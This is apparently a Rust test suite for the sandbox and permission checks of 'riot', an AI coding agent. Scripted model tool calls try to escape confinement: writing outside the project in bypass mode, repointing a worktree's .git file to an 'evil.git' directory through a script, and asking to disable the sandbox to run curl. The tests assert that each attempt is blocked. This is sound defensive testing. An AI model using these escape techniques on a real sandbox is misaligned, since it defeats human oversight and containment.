    let out = sh(&runner, &place, script).await;
    assert_eq!(out.exit_code, Some(0), "{}", text(&out));
    assert_eq!(
        out.stdout.head,
        "?? .riot/\n?? a.txt\nscratch\nALPHA\n?? .riot/\n?? build/\n"
    );
    assert_eq!(
        git(&place.project, &["log", "--format=%s"]),
        "first commit\n"
    );
    assert_eq!(
        std::fs::read_to_string(place.project.join("build/out.o")).unwrap(),
        "object\n"
    );
}

#[tokio::test]
async fn bubblewrap_ordinary_work_succeeds() {
    ordinary_work_succeeds(Mech::Bubblewrap).await;
}

#[tokio::test]
async fn landlock_ordinary_work_succeeds() {
    ordinary_work_succeeds(Mech::LandlockOnly).await;
}

/// `cargo test` of a crate made here, offline, with its target directory
/// in the project.
#[tokio::test]
async fn bubblewrap_cargo_test_runs_inside() {
    let place = Place::new();
    let Some(runner) = sandboxed(&place, Mech::Bubblewrap, &place.policy()) else {
        return;
    };
    std::fs::create_dir_all(place.project.join("tiny/src")).unwrap();
    std::fs::write(
        place.project.join("tiny/Cargo.toml"),
        "[package]\nname = \"tiny\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[workspace]\n",
    )
    .unwrap();
    std::fs::write(
        place.project.join("tiny/src/lib.rs"),
        "pub fn two() -> u32 { 2 }\n#[test]\nfn two_is_two() { assert_eq!(two(), 2); }\n",
    )
    .unwrap();
    // The person's cargo and rustup homes, read-only inside.
    let real_home = std::env::var("HOME").unwrap_or_default();
    let cargo_home = std::env::var("CARGO_HOME").unwrap_or_else(|_| format!("{real_home}/.cargo"));
    let rustup_home =
        std::env::var("RUSTUP_HOME").unwrap_or_else(|_| format!("{real_home}/.rustup"));
    let script = format!(
        "cd tiny && CARGO_HOME={cargo_home} RUSTUP_HOME={rustup_home} CARGO_TARGET_DIR=$PWD/target cargo test --offline -q 2>&1"
    );
    let out = sh(&runner, &place, &script).await;
    assert_eq!(out.exit_code, Some(0), "{}", text(&out));
    assert!(out.stdout.head.contains("1 passed"), "{}", text(&out));
    assert!(place.project.join("tiny/target").is_dir());
}

// ---- `riot sandbox check`, `config show`, `permissions check`, `exec` ----

/// `riot ARGS` with the sandbox as this machine has it: the test support
/// turns it off (`RIOT_SANDBOX=off`) for the other tests, which pin the
/// permission table without it.
fn on_bare(world: &World, args: &[&str]) -> tokio::process::Command {
    let mut cmd = world.bare(args);
    cmd.env_remove("RIOT_SANDBOX");
    cmd
}

/// `riot exec` against `server`, the sandbox as this machine has it.
fn on_exec(
    world: &World,
    server: &MockServer,
    wire: Wire,
    args: &[&str],
) -> tokio::process::Command {
    let mut cmd = world.exec(server, wire, args);
    cmd.env_remove("RIOT_SANDBOX");
    cmd
}

fn user_settings(world: &World, json: &str) {
    std::fs::write(world.home.path().join("settings.json"), json).unwrap();
}

#[tokio::test]
async fn riot_sandbox_check_with_bwrap_is_bubblewrap() {
    let world = World::new();
    let out = run(on_bare(&world, &["sandbox", "check", "--json"])).await;
    let value: Value = serde_json::from_str(out.stdout.trim()).unwrap();
    if value["enforced"] != true {
        eprintln!("skipped: no sandbox on this machine: {value}");
        assert_eq!(out.code, Some(1));
        return;
    }
    assert_eq!(out.code, Some(0), "{out:?}");
    assert_eq!(value["mechanism"], "bubblewrap-landlock-seccomp", "{value}");
    assert_eq!(value["network"], false);
    assert_eq!(value["writable"], json!([world.cwd()]));
    assert_eq!(value["auto_allow"], true);
    assert!(value.get("reason").is_none(), "{value}");

    let out = run(on_bare(&world, &["sandbox", "check"])).await;
    assert_eq!(out.code, Some(0));
    assert!(
        out.stdout
            .starts_with("enforced: yes, by bubblewrap-landlock-seccomp\nnetwork: off\n"),
        "{}",
        out.stdout
    );
}

#[tokio::test]
async fn riot_sandbox_check_without_bwrap_is_landlock_and_seccomp() {
    let world = World::new();
    std::fs::create_dir_all(world.project.path().join(".git/hooks")).unwrap();
    std::fs::create_dir_all(world.project.path().join(".riot")).unwrap();
    let empty = tempfile::tempdir().unwrap();
    let mut cmd = on_bare(&world, &["sandbox", "check", "--json"]);
    cmd.env("PATH", empty.path());
    let out = run(cmd).await;
    let value: Value = serde_json::from_str(out.stdout.trim()).unwrap();
    if value["enforced"] != true {
        eprintln!("skipped: no Landlock on this kernel: {value}");
        return;
    }
    assert_eq!(out.code, Some(0), "{out:?}");
    assert_eq!(value["mechanism"], "landlock-seccomp", "{value}");
    assert!(
        value["reason"]
            .as_str()
            .unwrap()
            .starts_with("bubblewrap is not installed (no `bwrap` on PATH; install the bubblewrap package), so Landlock and seccomp alone enforce the sandbox"),
        "{value}"
    );
    // Only what Landlock can keep read-only is listed: the project's
    // protected paths stay writable there.
    let read_only = value["read_only"].to_string();
    assert!(
        !read_only.contains(".git") && !read_only.contains(".riot"),
        "{value}"
    );
    assert_eq!(value["hidden"], json!([]));
    // Landlock cannot keep `.git` read-only, so nothing runs unasked.
    assert_eq!(value["auto_allow"], false, "{value}");
    let limits = value["limits"].as_array().unwrap();
    assert!(
        limits[0].as_str().unwrap().starts_with(
            "`.git`, `.riot`, `.claude` and `.mcp.json` inside the project stay writable"
        ),
        "{value}"
    );
    // What closing the person's terminals costs is said.
    assert!(
        limits.iter().any(|l| l
            .as_str()
            .unwrap()
            .starts_with("`/dev/pts` is closed to commands, so they cannot reach your terminals; they cannot make pseudo-terminals either")),
        "{value}"
    );
}

#[tokio::test]
async fn riot_sandbox_check_when_disabled_says_so_and_fails() {
    let world = World::new();
    user_settings(&world, r#"{"sandbox": {"enabled": false}}"#);
    let out = run(on_bare(&world, &["sandbox", "check", "--json"])).await;
    assert_eq!(out.code, Some(1), "{out:?}");
    let value: Value = serde_json::from_str(out.stdout.trim()).unwrap();
    assert_eq!(value["enforced"], false);
    assert_eq!(value["mechanism"], "none");
    assert_eq!(value["auto_allow"], false);
    let reason = value["reason"].as_str().unwrap();
    assert!(
        reason.starts_with("the sandbox is turned off (\"sandbox\": {\"enabled\": false} in "),
        "{reason}"
    );

    let out = run(on_bare(&world, &["config", "show"])).await;
    assert!(
        out.stdout
            .lines()
            .any(|l| l.starts_with("sandbox")
                && l.contains("not enforced: the sandbox is turned off")),
        "{}",
        out.stdout
    );
}

#[tokio::test]
async fn a_projects_settings_cannot_widen_the_sandbox() {
    let world = World::new();
    std::fs::create_dir_all(world.project.path().join(".riot")).unwrap();
    std::fs::write(
        world.project.path().join(".riot/settings.json"),
        r#"{"sandbox": {"network": true, "writable": ["/"]}}"#,
    )
    .unwrap();
    let out = run(on_bare(
        &world,
        &["config", "show", "--json", "--trust-project"],
    ))
    .await;
    assert_eq!(out.code, Some(0), "{out:?}");
    let value: Value = serde_json::from_str(out.stdout.trim()).unwrap();
    assert_eq!(value["sandbox"], json!({}), "{value}");
    let warnings = value["warnings"].to_string();
    assert!(
        warnings.contains("ignored \\\"sandbox.network\\\": true"),
        "{warnings}"
    );
    assert!(
        warnings.contains("ignored \\\"sandbox.writable\\\""),
        "{warnings}"
    );
    if value["sandbox_status"]["enforced"] == true {
        assert_eq!(value["sandbox_status"]["network"], false);
        assert_eq!(value["sandbox_status"]["writable"], json!([world.cwd()]));
    }
}

#[tokio::test]
async fn permissions_check_shows_the_sandbox_reason() {
    let world = World::new();
    let check = |world: &World| {
        on_bare(
            world,
            &[
                "permissions",
                "check",
                "--tool",
                "Bash",
                "--input",
                r#"{"command": "touch new.txt"}"#,
            ],
        )
    };
    let probe = run(on_bare(&world, &["sandbox", "check", "--json"])).await;
    let out = run(check(&world)).await;
    let value: Value = serde_json::from_str(out.stdout.trim()).unwrap();
    if probe.code == Some(0) {
        assert_eq!(value["decision"], "allow", "{value}");
        assert_eq!(value["reason"]["kind"], "sandbox", "{value}");
    } else {
        eprintln!("skipped the enforced half: no sandbox here");
    }
    // Leaving the sandbox is always a question, even in bypass mode.
    let out = run(on_bare(&world, &[
        "permissions",
        "check",
        "--permission-mode",
        "bypass",
        "--tool",
        "Bash",
        "--input",
        r#"{"command": "curl -sS https://example.com", "dangerouslyDisableSandbox": true, "description": "fetch the page"}"#,
    ]))
    .await;
    let value: Value = serde_json::from_str(out.stdout.trim()).unwrap();
    assert_eq!(value["decision"], "ask", "{value}");
    assert_eq!(value["reason"]["kind"], "sandbox", "{value}");
    assert_eq!(
        value["reason"]["detail"],
        "asks to run outside the OS sandbox: fetch the page"
    );
    // Off: the design's table, a question.
    user_settings(&world, r#"{"sandbox": {"enabled": false}}"#);
    let out = run(check(&world)).await;
    let value: Value = serde_json::from_str(out.stdout.trim()).unwrap();
    assert_eq!(value["decision"], "ask", "{value}");
    assert_eq!(value["reason"]["kind"], "unverifiable", "{value}");
}

fn touch_new() -> Reply {
    tool_call(
        "call_touch_1",
        "Bash",
        json!({"command": "touch new.txt", "description": "Create a file"}),
    )
}

async fn server(replies: Vec<Reply>) -> MockServer {
    MockServer::start(Script::new(Wire::Anthropic, replies))
        .await
        .unwrap()
}

/// Whether `riot sandbox check` says the sandbox is enforced here; when it
/// is not, the test is skipped (reason printed) — except under CI, which
/// installs bubblewrap, where that fails the test instead.
async fn sandbox_enforced(world: &World) -> bool {
    let probe = run(on_bare(world, &["sandbox", "check"])).await;
    if probe.code == Some(0) {
        return true;
    }
    assert!(
        std::env::var_os("CI").is_none(),
        "CI installs bubblewrap and must run this test: {}",
        probe.stdout
    );
    eprintln!("skipped: no sandbox here: {}", probe.stdout);
    false
}

/// Default mode, no `--allow`: the enforced sandbox lets `touch new.txt`
/// run; with the sandbox off the same call is a question nobody can
/// answer, so it is denied.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn exec_runs_a_command_unasked_only_while_the_sandbox_is_enforced() {
    let world = World::new();
    if !sandbox_enforced(&world).await {
        return;
    }
    let server1 = server(vec![touch_new(), Reply::Text("Done.".into())]).await;
    let out = run(on_exec(
        &world,
        &server1,
        Wire::Anthropic,
        &["Make new.txt"],
    ))
    .await;
    assert_eq!(out.code, Some(0), "{out:?}");
    assert!(world.project.path().join("new.txt").exists(), "{out:?}");
    let result = support::tool_result(&bodies(&server1)[1], "call_touch_1");
    assert_ne!(result["is_error"], true, "{result}");

    std::fs::remove_file(world.project.path().join("new.txt")).unwrap();
    user_settings(&world, r#"{"sandbox": {"enabled": false}}"#);
    let server2 = server(vec![touch_new(), Reply::Text("Done.".into())]).await;
    let out = run(on_exec(
        &world,
        &server2,
        Wire::Anthropic,
        &["Make new.txt"],
    ))
    .await;
    assert_eq!(out.code, Some(0), "{out:?}");
    assert!(
        !world.project.path().join("new.txt").exists(),
        "ran without asking: {out:?}"
    );
    let result = support::tool_result(&bodies(&server2)[1], "call_touch_1");
    assert_eq!(result["is_error"], true, "{result}");
    assert!(
        result
            .to_string()
            .contains("nobody can answer permission questions in this session"),
        "{result}"
    );
}

/// Bypass mode lets a write outside the project through the permission
/// chain; the sandbox stops it, and the model reads why.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn exec_in_bypass_mode_still_cannot_write_outside_the_project() {
    let world = World::new();
    if !sandbox_enforced(&world).await {
        return;
    }
    let outside = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
    let target = outside.path().canonicalize().unwrap().join("escaped.txt");
    let call = tool_call(
        "call_out_1",
        "Bash",
        json!({"command": format!("touch {}", target.display()), "description": "Write outside"}),
    );
    let server = server(vec![call, Reply::Text("Done.".into())]).await;
    let out = run(on_exec(
        &world,
        &server,
        Wire::Anthropic,
        &["--permission-mode", "bypass", "Write outside"],
    ))
    .await;
    assert_eq!(out.code, Some(0), "{out:?}");
    assert!(!target.exists(), "the sandbox let a write outside through");
    let result = support::tool_result(&bodies(&server)[1], "call_out_1");
    assert_eq!(result["is_error"], true, "{result}");
    assert!(
        result.to_string().contains("Read-only file system"),
        "{result}"
    );
}

/// The session's terminals are in its sandbox: in bypass mode a Terminal
/// opened to write outside the project is let through by the permission
/// chain, and the sandbox stops the write; the model reads why on the
/// screen.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn exec_a_terminal_in_bypass_mode_still_cannot_write_outside_the_project() {
    let world = World::new();
    if !sandbox_enforced(&world).await {
        return;
    }
    let outside = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
    let target = outside.path().canonicalize().unwrap().join("escaped.txt");
    let call = tool_call(
        "call_term_1",
        "Terminal",
        json!({
            "action": "open",
            "name": "w",
            "command": format!("touch {}; echo \"touch=$?\"; touch inside.txt; echo \"inside=$?\"", target.display()),
        }),
    );
    let server = server(vec![call, Reply::Text("Done.".into())]).await;
    let out = run(on_exec(
        &world,
        &server,
        Wire::Anthropic,
        &["--permission-mode", "bypass", "Write outside"],
    ))
    .await;
    assert_eq!(out.code, Some(0), "{out:?}");
    assert!(!target.exists(), "the sandbox let a terminal write outside");
    assert!(world.project.path().join("inside.txt").exists(), "{out:?}");
    let result = support::tool_result(&bodies(&server)[1], "call_term_1").to_string();
    assert!(result.contains("Read-only file system"), "{result}");
    assert!(result.contains("touch=1"), "{result}");
    assert!(result.contains("inside=0"), "{result}");
}

/// `riot exec` in a git worktree, the sandbox on: the model's `git add` and
/// `git commit` work (the commit is on the worktree's branch in the main
/// repository), and repointing the worktree's `.git` file — which Riot's
/// own git calls later follow — fails, in bypass mode too.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn exec_in_a_worktree_commits_but_cannot_repoint_its_git_file() {
    let world = World::new();
    if !sandbox_enforced(&world).await {
        return;
    }
    // Not under /tmp: the sandbox's /tmp is its own.
    let root = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
    let base = root.path().canonicalize().unwrap();
    let main = base.join("main");
    std::fs::create_dir_all(&main).unwrap();
    std::fs::write(main.join("a.txt"), "alpha\n").unwrap();
    git(&main, &["init", "-q"]);
    git(&main, &["add", "a.txt"]);
    git(
        &main,
        &[
            "-c",
            "user.name=t",
            "-c",
            "user.email=t@example.invalid",
            "commit",
            "-q",
            "-m",
            "first",
        ],
    );
    git(&main, &["worktree", "add", "-q", "-b", "wt", "../wt"]);
    let wt = base.join("wt");
    let git_file = std::fs::read_to_string(wt.join(".git")).unwrap();
    let evil = base.join("evil.git");
    std::fs::create_dir_all(&evil).unwrap();
    let commit = tool_call(
        "call_commit_1",
        "Bash",
        json!({
            "command": "echo new > b.txt && git add b.txt && git -c user.name=t -c user.email=t@example.invalid commit -q -m 'from riot' && echo committed",
            "description": "Commit b.txt",
        }),
    );
    let repoint = tool_call(
        "call_repoint_1",
        "Bash",
        json!({
            // Through a script, as a build step would: the permission
            // chain cannot see the write, only the sandbox stops it.
            "command": format!("printf 'echo gitdir: %s > .git\\n' {} > repoint.sh && sh repoint.sh", evil.display()),
            "description": "Repoint the worktree",
        }),
    );
    let server = server(vec![commit, repoint, Reply::Text("Done.".into())]).await;
    let mut cmd = world.exec_in(
        &wt,
        &server,
        Wire::Anthropic,
        &["--permission-mode", "bypass", "Commit b.txt"],
    );
    cmd.env_remove("RIOT_SANDBOX");
    let out = run(cmd).await;
    assert_eq!(out.code, Some(0), "{out:?}");
    let bodies = bodies(&server);
    let committed = support::tool_result(&bodies[1], "call_commit_1");
    assert_ne!(committed["is_error"], true, "{committed}");
    assert!(committed.to_string().contains("committed"), "{committed}");
    assert_eq!(
        git(&main, &["log", "-1", "--format=%s", "wt"]),
        "from riot\n"
    );
    let repointed = support::tool_result(&bodies[2], "call_repoint_1");
    assert_eq!(repointed["is_error"], true, "{repointed}");
    assert!(
        repointed.to_string().contains("Read-only file system"),
        "{repointed}"
    );
    assert_eq!(std::fs::read_to_string(wt.join(".git")).unwrap(), git_file);
}

/// A SIGKILLed riot leaves nothing of a sandboxed command running: the
/// watchdog kills bubblewrap's group, and the namespace's processes die
/// with it (`--die-with-parent`, the PID namespace), a detached one too.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn kill_9_during_a_sandboxed_command_leaves_nothing_running() {
    use support::{GroupGuard, Running, lines_until, pgid_of, signal, wait_until};
    use tokio::io::{AsyncBufReadExt, BufReader};

    let world = World::new();
    if !sandbox_enforced(&world).await {
        return;
    }
    let marker = format!("sleep 130.{}", std::process::id());
    let detached = format!("sleep 131.{}", std::process::id());
    let command = format!("setsid {detached} & {marker}; echo slept");
    let call = tool_call(
        "call_bash_1",
        "Bash",
        json!({"command": command, "description": "Wait"}),
    );
    let server = server(vec![call]).await;
    let args = ["--output-format", "events", "Run the slow command"];
    let mut riot = Running::spawn(on_exec(&world, &server, Wire::Anthropic, &args));
    let mut lines = BufReader::new(riot.child.stdout.take().unwrap()).lines();
    lines_until(&mut lines, |e| e["type"] == "tool_started").await;
    wait_until("both sleeps to start", || {
        !processes_with(&marker).is_empty() && !processes_with(&detached).is_empty()
    })
    .await;
    // Whatever happens, nothing of the test outlives it.
    let _guards: Vec<GroupGuard> = processes_with("sleep 13")
        .into_iter()
        .map(|pid| GroupGuard { pgid: pgid_of(pid) })
        .collect();
    assert!(signal("KILL", i64::from(riot.pid())));
    let _ = tokio::time::timeout(support::PATIENCE, riot.child.wait()).await;
    wait_until("the sandboxed sleeps to end", || {
        processes_with(&marker).is_empty() && processes_with(&detached).is_empty()
    })
    .await;
}
